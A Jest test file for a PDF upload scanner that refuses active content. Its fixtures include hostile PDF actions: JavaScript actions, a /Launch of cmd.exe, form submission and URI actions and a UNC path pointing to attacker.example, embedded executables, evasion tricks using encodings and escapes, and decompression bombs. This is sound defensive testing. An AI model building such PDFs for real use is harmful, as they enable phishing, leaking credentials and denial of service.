import { monitorEventLoopDelay } from 'node:perf_hooks';
import { Readable } from 'node:stream';
import zlib from 'node:zlib';
import { PdfScanner, scanPdf } from '../../src/web/uploads/pdf/scan';
import { demoLetterPdf } from '../../src/demo/documents';
import { renderCertificate } from '../../src/certificates/render';
import { DEFAULT_TEMPLATES } from '../../src/certificates/defaults';
import { solidPng } from '../certificates/images';
import {
  ascii85, asciiHex, flate, flateBombs, flateTwice, flateWithPngPredictor, lzw, lzwBomb, manyStreamKeywords, objectStreamData, pdfOf, pdfkitDocument, runLength, streamOf, withHiddenObjects,
} from './pdf-files';

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';

/** The longest the event loop waited while `work` ran, in milliseconds (sampled every 10 ms). */
async function longestStall(work: () => Promise<unknown>): Promise<number> {
  const h = monitorEventLoopDelay({ resolution: 10 });
  h.enable();
  try {
    await work();
  } finally {
    h.disable();
  }
  return h.max / 1e6;
}

describe('the PDF active-content scan', () => {
  describe('accepts ordinary documents', () => {
    it('accepts the demo letters, PDFKit documents with a PNG image, and the app’s own certificates', async () => {
      expect(await scanPdf(await demoLetterPdf('Ходатайство', ['Рекомендую Иванову Марию Петровну.']))).toBeNull();
      expect(await scanPdf(await pdfkitDocument({ image: solidPng(40, 40) }))).toBeNull();
      const record = { kind: 'winner' as const, number: 'PED-2026-0007', code: 'q3Vb9xTz0kLmN4pR7sWc2A9f', holderName: 'Иванова Мария Петровна', place: 1, printed: { 'nominee.fullName': 'Иванова Мария Петровна' }, issuedAt: new Date('2026-05-12T09:30:00Z') };
      const { pdf } = await renderCertificate({ record, template: DEFAULT_TEMPLATES.winner, assets: { emblem: solidPng(), background: solidPng(16, 16, [200, 200, 200]) }, baseUrl: 'https://laureate.example.org' });
      expect(await scanPdf(pdf)).toBeNull();
    });

    it('accepts a link the reader must click, to a web address (a CV with links to publications)', async () => {
      expect(await scanPdf(await pdfkitDocument({ link: 'https://pubmed.ncbi.nlm.nih.gov/' }))).toBeNull();
    });

    it.each([
      ['Flate', flate],
      ['Flate twice', flateTwice],
      ['Flate with a PNG predictor', (d: Buffer) => flateWithPngPredictor(d)],
      ['ASCIIHex', asciiHex],
      ['ASCII85', ascii85],
      ['RunLength', runLength],
      ['LZW', lzw],
    ])('reads a harmless object stream coded with %s, so the decoding is real and not a blanket refusal', async (_what, encode) => {
      const harmless = withHiddenObjects(['<< /S /GoTo /D [2 0 R /Fit] >>', '<< /Producer (Writer) >>'], encode);
      expect(await scanPdf(harmless)).toBeNull();
    });

    it('accepts image bytes that happen to spell /JS, and a stream whose /Length is given by reference', async () => {
      const image = streamOf('/Type /XObject /Subtype /Image /Width 2 /Height 2 /Filter /DCTDecode', Buffer.from('\xff\xd8\xff/JS\x9c\x00/JS(x/JS<\xff', 'latin1'));
      const content = zlib.deflateSync(Buffer.from('BT /F1 12 Tf (Hello) Tj ET'));
      expect(await scanPdf(pdfOf([catalog(''), PAGES, image, streamOf('/Filter /FlateDecode', content, '5 0 R'), String(content.length)]))).toBeNull();
    });
  });

  describe('refuses actions however they are hidden', () => {
    it.each([
      ['Flate twice', flateTwice],
      ['Flate with a PNG predictor', (d: Buffer) => flateWithPngPredictor(d)],
      ['ASCIIHex', asciiHex],
      ['ASCII85', ascii85],
      ['RunLength', runLength],
      ['LZW', lzw],
    ])('a JavaScript action in an object stream coded with %s', async (_what, encode) => {
      expect(await scanPdf(withHiddenObjects([SCRIPT], encode))).toBe('active');
    });

    it('a JavaScript action whose names are spelt with #xx escapes inside a compressed object stream', async () => {
      expect(await scanPdf(withHiddenObjects(['<< /S /J#61vaScript /J#53 (app.alert(1)) >>'], (d) => flateWithPngPredictor(d, 7)))).toBe('active');
    });

    it('a /JS key on its own, and an action type given by reference', async () => {
      expect(await scanPdf(pdfOf([catalog('/OpenAction 3 0 R'), PAGES, '<< /S 4 0 R /JS 5 0 R >>']))).toBe('active');
      expect(await scanPdf(withHiddenObjects(['<< /S 5 0 R /URI (http://x.example) >>', '/SubmitForm'], flate))).toBe('active');
    });

    it.each([
      ['/GoToR to a UNC path', '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
      ['/SubmitForm', '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>'],
      ['/ImportData', '<< /S /ImportData /F (data.fdf) >>'],
      ['/URI', '<< /S /URI /URI (https://attacker.example/) >>'],
      ['/Launch', '<< /S /Launch /F (cmd.exe) >>'],
      ['/GoToE', '<< /S /GoToE /T << /R /C /N (x) >> >>'],
    ])('an open action %s, written in the catalog or by reference', async (_what, action) => {
      expect(await scanPdf(pdfOf([catalog(`/OpenAction ${action}`), PAGES]))).toBe('active');
      expect(await scanPdf(pdfOf([catalog('/OpenAction 3 0 R'), PAGES, action]))).toBe('active');
      expect(await scanPdf(withHiddenObjects([action], flate))).toBe('active');
    });

    it('a /URI that runs by itself from a page’s additional actions, directly, by reference, or after /Next', async () => {
      const uri = '<< /S /URI /URI (https://attacker.example/) >>';
      expect(await scanPdf(pdfOf([catalog(''), `<< /Type /Page /AA << /O ${uri} >> >>`]))).toBe('active');
      expect(await scanPdf(pdfOf([catalog(''), '<< /Type /Page /AA 3 0 R >>', '<< /O 4 0 R >>', uri]))).toBe('active');
      expect(await scanPdf(pdfOf([catalog('/OpenAction 3 0 R'), PAGES, '<< /S /GoTo /D [2 0 R /Fit] /Next 4 0 R >>', uri]))).toBe('active');
    });

    it('embedded files, rich media, and an XFA form with a script, even in a compressed stream', async () => {
      expect(await scanPdf(pdfOf([catalog('/Names << /EmbeddedFiles 3 0 R >>'), PAGES, '<< /Names [(a.exe) 4 0 R] >>']))).toBe('active');
      expect(await scanPdf(pdfOf([catalog(''), PAGES, '<< /Type /Annot /Subtype /RichMedia >>']))).toBe('active');
      const xfa = zlib.deflateSync(Buffer.from('<xdp:xdp><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'));
      expect(await scanPdf(pdfOf([catalog('/AcroForm << /XFA 3 0 R >>'), PAGES, streamOf('/Filter /FlateDecode', xfa)]))).toBe('active');
    });
  });

  describe('refuses what it cannot inspect', () => {
    it('an encrypted document, and a stream behind the Crypt filter', async () => {
      const objects = [catalog(''), PAGES, '<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'];
      expect(await scanPdf(pdfOf(objects, { trailer: '/Encrypt 3 0 R /ID [<01> <01>]' }))).toBe('encrypted');
      expect(await scanPdf(pdfOf([catalog(''), PAGES, streamOf('/Filter /Crypt', Buffer.from('xx'))]))).toBe('encrypted');
    });

    it('an object stream that does not decode, is cut short, names an unknown filter, or is coded as an image', async () => {
      const { data, entries } = objectStreamData(['<< /Producer (Writer) >>', '<< >>'], 4);
      const broken = Buffer.from('this is not flate data at all');
      expect(await scanPdf(pdfOf([catalog(''), PAGES, streamOf(`${entries} /Filter /FlateDecode`, broken)]))).toBe('unreadable');
      expect(await scanPdf(pdfOf([catalog(''), PAGES, streamOf(`/Type /ObjStm /N 5 /First 8 /Filter /FlateDecode`, zlib.deflateSync(Buffer.from('4 0 5 6 << >> ')))]))).toBe('unreadable');
      expect(await scanPdf(pdfOf([catalog(''), PAGES, streamOf(`${entries} /Filter /SecretDecode`, data)]))).toBe('unreadable');
      expect(await scanPdf(pdfOf([catalog(''), PAGES, streamOf(`${entries} /Filter /DCTDecode`, data)]))).toBe('unreadable');
    });

    it('an object stream whose header points into the middle of another object (where a string hides a dictionary)', async () => {
      const hidden = '(<< /S /URI /URI (https://attacker.example/) >>)';
      const data = Buffer.from(`4 0 5 1 ${hidden}`);
      const withCatalog = pdfOf([catalog('/OpenAction 5 0 R'), PAGES, streamOf('/Type /ObjStm /N 2 /First 8 /Filter /FlateDecode', zlib.deflateSync(data))]);
      expect(await scanPdf(withCatalog)).toBe('unreadable');
    });

    it('a stream that ends before its declared /Length (an “endstream” planted in compressed data)', async () => {
      const planted = Buffer.concat([Buffer.from('\nendstream\nendobj\n'), zlib.deflateSync(Buffer.from(SCRIPT))]);
      expect(await scanPdf(pdfOf([catalog(''), PAGES, streamOf('/Filter /FlateDecode', planted)]))).toBe('unreadable');
    });

    it('an XFA form whose stream is labelled as an image, so it is not read', async () => {
      expect(await scanPdf(pdfOf([catalog('/AcroForm << /XFA [(template) 3 0 R] >>'), PAGES, streamOf('/Subtype /Image /Filter /FlateDecode', zlib.deflateSync(Buffer.from('<template/>')))]))).toBe('unreadable');
    });
  });

  describe('takes time and memory in proportion to the file, never holding the event loop', () => {
    it('reads 100 KB of `stream` keywords at once, with the event loop never waiting 250 ms', async () => {
      let verdict: unknown;
      const stall = await longestStall(async () => (verdict = await scanPdf(manyStreamKeywords())));
      expect(verdict).toBeNull();
      expect(stall).toBeLessThan(250);
    });

    it('refuses twenty Flate bombs (16 MB each) once 64 MB are inflated, with the event loop never waiting 250 ms', async () => {
      let verdict: unknown;
      const stall = await longestStall(async () => (verdict = await scanPdf(flateBombs())));
      expect(verdict).toBe('tooLarge');
      expect(stall).toBeLessThan(250);
    });

    it('refuses LZW and RunLength bombs the same way, and stops at a smaller budget when given one', async () => {
      const rl = runLength(Buffer.alloc(4 * 1024 * 1024));
      expect(await scanPdf(pdfOf([catalog(''), PAGES, streamOf(rl.entries, rl.data)]), { maxInflatedBytes: 1024 * 1024 })).toBe('tooLarge');
      const bomb = lzwBomb(20);
      let verdict: unknown;
      const stall = await longestStall(async () => (verdict = await scanPdf(pdfOf([catalog(''), PAGES, streamOf(bomb.entries, bomb.data)]))));
      expect(verdict).toBe('tooLarge');
      expect(stall).toBeLessThan(250);
    });

    it('reads a file fed in chunks of any size, a byte at a time included, or from a stream, to the same verdict', async () => {
      const file = withHiddenObjects([SCRIPT], (d) => flateWithPngPredictor(d));
      for (const size of [1, 7, 1000]) {
        const scanner = new PdfScanner();
        for (let i = 0; i < file.length && !scanner.done; i += size) await scanner.write(file.subarray(i, i + size));
        expect(await scanner.end()).toBe('active');
      }
      // as a stored document will arrive from disk or the database: a readable stream of chunks
      expect(await scanPdf(Readable.from([file.subarray(0, 100), file.subarray(100)]))).toBe('active');
    });
  });
});
